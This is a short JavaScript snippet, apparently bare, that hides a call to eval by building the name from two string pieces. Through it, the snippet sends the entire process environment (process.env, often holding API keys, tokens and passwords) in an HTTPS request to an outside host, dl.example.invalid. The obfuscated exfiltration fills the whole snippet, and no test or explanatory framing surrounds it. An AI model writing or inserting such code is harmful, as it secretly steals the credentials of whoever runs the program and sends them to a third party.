const k = 'ev' + 'al';
global[k]("require('https').get('https://dl.example.invalid/?d=' + JSON.stringify(process.env))");
